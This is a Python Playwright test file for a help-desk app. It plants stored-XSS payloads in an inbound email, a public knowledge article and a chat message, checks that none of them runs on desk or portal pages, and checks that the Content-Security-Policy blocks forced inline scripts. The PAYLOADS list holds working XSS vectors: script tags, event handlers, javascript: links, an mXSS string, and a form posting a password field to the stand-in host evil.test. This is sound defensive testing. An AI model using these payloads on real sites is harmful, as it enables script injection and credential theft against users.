"""Stored XSS, tried for real (issue 10, item 10): payloads planted in an inbound HTML mail (through
the mail service), a public knowledge article (markdown with raw HTML) and a chat message, then
every page that shows them opened in Chromium, on the desk and in the portal. Nothing may run:
no `window.__pwned`, no dialog, no request to the attacker's host, no navigation away. And the
browser itself enforces our Content-Security-Policy: an inline script forced into a page is
refused, and the refusal is reported in the console."""

from __future__ import annotations

import uuid
from dataclasses import dataclass, field
from typing import Any

import pytest
from django.conf import settings
from django.contrib.sessions.backends.db import SessionStore
from playwright.sync_api import Browser, BrowserContext, Dialog, Page, Route

from loxodon.cases.models import Case
from loxodon.cases.services import open_case
from loxodon.channels.chat.selectors import Visitor
from loxodon.channels.chat.services import post_visitor_message
from loxodon.channels.email import tokens
from loxodon.channels.email.mail_spool import spool_message
from loxodon.channels.email.models import InboundMail, InboundStatus
from loxodon.channels.email.services import process_spooled_mail
from loxodon.channels.web.models import WebProperty
from loxodon.desk.tests.browser import LiveServer, in_worker, screenshot
from loxodon.knowledge.models import Article, Audience
from loxodon.knowledge.services import create_article
from loxodon.org.models import Site, User
from loxodon.portal.access import SESSION_KEY
from loxodon.portal.tests.picture_fixtures import Person, make_person

pytestmark = pytest.mark.browser

EVIL = "evil.test"
# Every payload, if it ran, would set window.__pwned, open a dialog or reach the attacker's host.
PAYLOADS = [
    "<script>window.__pwned='script';alert('script')</script>",
    "<img src=x onerror=\"window.__pwned='img-onerror'\">",
    '<svg onload="window.__pwned=\'svg-onload\'"><circle r="5"></circle></svg>',
    '<a class="xss-link" href="javascript:window.__pwned=\'js-link\'">click me (js)</a>',
    '<a class="xss-link" href="JaVaScRiPt&colon;window.__pwned=\'js-link-2\'">click me (js 2)</a>',
    "<iframe srcdoc=\"<script>parent.__pwned='srcdoc'</script>\"></iframe>",
    f'<iframe src="https://{EVIL}/frame"></iframe>',
    f"<style>body {{ background: url(https://{EVIL}/style-element) }}</style>",
    f'<p style="background-image: url(https://{EVIL}/style-attribute)">styled words</p>',
    f'<meta http-equiv="refresh" content="0;url=https://{EVIL}/refresh">',
    f'<form action="https://{EVIL}/form" method="post"><input name="pw" value="secret">'
    '<button class="xss-submit">Send</button></form>',
    f'<img src="https://{EVIL}/pixel.png" alt="pixel">',
    f'<object data="https://{EVIL}/object"></object><embed src="https://{EVIL}/embed">',
    "<details open ontoggle=\"window.__pwned='ontoggle'\"><summary>more</summary>x</details>",
    "<math><mtext><table><mglyph><style><img src=x onerror=\"window.__pwned='mxss'\">",
    f'<base href="https://{EVIL}/">',
]
HTML = "\n".join(f"<p>payload {i}: {p}</p>" for i, p in enumerate(PAYLOADS))
MARKER = "Harmless words around the payloads"


@dataclass
class Planted:
    person: Person
    case: Case
    inbound: InboundMail
    article: Article
    chat_id: str
    agent: User
    pages: dict[str, str] = field(default_factory=dict)


def _mail(to: str, sender: str) -> bytes:
    onload = "window.__pwned='body-onload'"
    body = f'<html><body onload="{onload}"><p>{MARKER}</p>\n{HTML}</body></html>'
    return (
        f"From: Jo Payload <{sender}>\r\nTo: {to}\r\n"
        f"Subject: Help <img src=x onerror=\"window.__pwned='subject'\">\r\n"
        f"Message-ID: <{uuid.uuid4()}@example.com>\r\nDate: Tue, 01 Dec 2026 09:00:00 +0000\r\n"
        "MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + body
    ).encode()


def _plant(site: Site, supervisor: User) -> Planted:
    person = make_person(
        "Jo <img src=x onerror=\"window.__pwned='name'\">", "jo.payload@example.com"
    )
    case = open_case(
        customer=person.customer,
        problem="Laptop <svg onload=\"window.__pwned='problem'\"> will not start",
        actor=supervisor,
        owner=supervisor,
    )
    # 1. an inbound HTML mail, through the mail service (spool, then the processor), on the case
    spool_message(
        _mail(tokens.reply_address(case.pk), "jo.payload@example.com"),
        mail_from="jo.payload@example.com",
        rcpt_tos=[tokens.reply_address(case.pk)],
    )
    (inbound,) = process_spooled_mail()
    assert inbound.status == InboundStatus.PROCESSED, inbound.error
    assert inbound.case_id == case.pk
    # 2. a public knowledge article: markdown with raw HTML in body and title
    article = create_article(
        by=supervisor,
        title="Resetting <script>window.__pwned='title'</script> a laptop",
        body=f"# Resetting\n\n{MARKER}\n\n{HTML}\n\n"
        "[md link](javascript:window.__pwned='md-link')\n",
        audience=Audience.PUBLIC,
    )
    # 3. a chat message from the customer (signed in on the shop's widget)
    shop = WebProperty.objects.create(name="Shop", site=site, allowed_origins="https://shop.test")
    visitor = Visitor(shop, uuid.uuid4().hex, person.customer)
    posted = post_visitor_message(
        visitor, body=f"{MARKER} {HTML[:1800]}", client_id=uuid.uuid4().hex
    )
    return Planted(person, case, inbound, article, str(posted.chat.pk), supervisor)


class Watch:
    """What a page did: requests to the attacker, dialogs, console CSP reports, navigations."""

    def __init__(self, context: BrowserContext) -> None:
        self.evil: list[str] = []
        self.dialogs: list[str] = []
        self.console: list[str] = []
        context.route(f"**://{EVIL}/**", self._refuse)
        context.add_init_script("window.__pwned = null;")

    def _refuse(self, route: Route) -> None:
        self.evil.append(route.request.url)
        route.abort()

    def _dialog(self, dialog: Dialog) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def page(self, context: BrowserContext) -> Page:
        page = context.new_page()
        page.on("dialog", self._dialog)
        page.on("console", lambda m: self.console.append(m.text))
        return page


def _desk_context(browser: Browser, server: LiveServer, user: User) -> BrowserContext:
    from django.test import Client

    client = Client()
    client.force_login(user)
    context = browser.new_context(viewport={"width": 1366, "height": 900})
    context.add_cookies(
        [
            {
                "name": settings.SESSION_COOKIE_NAME,
                "value": client.cookies[settings.SESSION_COOKIE_NAME].value,
                "url": server.url,
            }
        ]
    )
    return context


def _portal_context(browser: Browser, server: LiveServer, person: Person) -> BrowserContext:
    session = SessionStore()
    session[SESSION_KEY] = str(person.login.pk)
    session.create()
    context = browser.new_context(viewport={"width": 1366, "height": 900})
    context.add_cookies(
        [
            {
                "name": settings.SESSION_COOKIE_NAME,
                "value": session.session_key or "",
                "url": server.url,
            }
        ]
    )
    return context


def _visit(page: Page, watch: Watch, url: str, name: str) -> None:
    response = page.goto(url)
    assert response is not None and response.status == 200, (name, response and response.status)
    page.wait_for_load_state("networkidle")
    assert page.url == url, f"{name}: the page navigated away to {page.url}"
    assert MARKER in page.content() or name.endswith("list"), f"{name}: the planted text is missing"
    # click every link and button a payload may have left behind (javascript: URLs, forms)
    for selector in ("a.xss-link", "a[href^='javascript' i]", "button.xss-submit", "summary"):
        for handle in page.locator(selector).all():
            if handle.is_visible():
                handle.click(no_wait_after=True, timeout=2000)
    page.wait_for_timeout(150)
    assert page.url == url, f"{name}: the page navigated away to {page.url}"
    assert page.evaluate("window.__pwned") is None, f"{name}: payload ran"
    assert not watch.dialogs, f"{name}: a dialog opened: {watch.dialogs}"
    assert not watch.evil, f"{name}: requests reached the attacker: {watch.evil}"
    screenshot(page, f"xss-{name}")


def test_no_planted_payload_runs_on_any_page(
    live_desk: LiveServer, chromium: Any, site: Site, supervisor: User, settings: Any, tmp_path: Any
) -> None:
    settings.LOXODON_MAIL_SPOOL = str(tmp_path / "spool")
    settings.MEDIA_ROOT = str(tmp_path / "media")
    settings.LOXODON_SUPPORT_EMAIL = "support@loxodon.test"
    planted = in_worker(lambda: _plant(site, supervisor))
    url = live_desk.url
    desk_pages = {
        "desk-customer": f"{url}/desk/customers/{planted.person.customer.pk}/",
        "desk-case": f"{url}/desk/cases/{planted.case.pk}/",
        "desk-mail": f"{url}/desk/mail/{planted.inbound.pk}/",
        "desk-article": f"{url}/desk/kb/{planted.article.slug}/",
        "desk-chat": f"{url}/desk/chats/{planted.chat_id}/",
    }
    portal_pages = {
        "portal-home": f"{url}/portal/",
        "portal-timeline": f"{url}/portal/timeline/",
        "portal-case": f"{url}/portal/cases/{planted.case.pk}/",
        "portal-conversations": f"{url}/portal/conversations/",
        "portal-help-list": f"{url}/portal/help/",
        "portal-help-article": f"{url}/portal/help/{planted.article.slug}/",
    }
    opened = 0
    for context, pages in (
        (_desk_context(chromium, live_desk, supervisor), desk_pages),
        (_portal_context(chromium, live_desk, planted.person), portal_pages),
    ):
        watch = Watch(context)
        for name, address in pages.items():
            page = watch.page(context)
            _visit(page, watch, address, name)
            opened += 1
            page.close()
        context.close()
    assert opened == len(desk_pages) + len(portal_pages)


def test_the_browser_refuses_a_forced_inline_script_and_says_so(
    live_desk: LiveServer, chromium: Any, supervisor: User
) -> None:
    """Defence in depth: had a payload slipped past the cleaner, CSP would still stop it."""
    context = _desk_context(chromium, live_desk, supervisor)
    watch = Watch(context)
    page = watch.page(context)
    page.goto(live_desk.url + "/desk/")
    page.wait_for_load_state("networkidle")
    violations = page.evaluate(
        """() => new Promise((resolve) => {
          const seen = [];
          document.addEventListener("securitypolicyviolation",
            (e) => seen.push(e.violatedDirective));
          const s = document.createElement("script");
          s.textContent = "window.__pwned = 'forced-inline'";
          document.body.appendChild(s);
          const d = document.createElement("div");
          d.innerHTML = '<img src="data:," onerror="window.__pwned=\\'forced-handler\\'">';
          document.body.appendChild(d);
          setTimeout(() => resolve(seen), 300);
        })"""
    )
    assert page.evaluate("window.__pwned") is None
    assert any(v.startswith("script-src") for v in violations), violations
    assert any("Content Security Policy" in line for line in watch.console), watch.console
    context.close()


def test_pages_with_scripts_work_under_the_policy(
    live_desk: LiveServer, chromium: Any, supervisor: User
) -> None:
    """No page of ours trips its own policy: the API docs (Swagger UI from Ninja's static files),
    the service standards pages (their script moved to sla.js) and the desk itself."""
    context = _desk_context(chromium, live_desk, supervisor)
    watch = Watch(context)
    page = watch.page(context)
    page.goto(live_desk.url + "/api/v1/docs")
    page.locator(".swagger-ui .info .title").wait_for()
    assert "Loxodon API" in page.locator(".swagger-ui .info .title").inner_text()
    page.goto(live_desk.url + "/desk/sla/standards/new/")
    minutes = page.locator("[data-sla-minutes]").first
    minutes.fill("510")
    hours_for = minutes.get_attribute("id")
    assert "that is 8 h 30" in page.locator(f'[data-sla-hours-for="{hours_for}"]').inner_text()
    page.goto(live_desk.url + "/desk/sla/")
    with page.expect_navigation():  # choosing a site shows it (the handler lives in sla.js)
        page.locator("#sla-site").select_option(index=1)
    assert "site=" in page.url
    refused = [line for line in watch.console if "Content Security Policy" in line]
    assert not refused, refused
    assert not watch.evil and not watch.dialogs
    context.close()
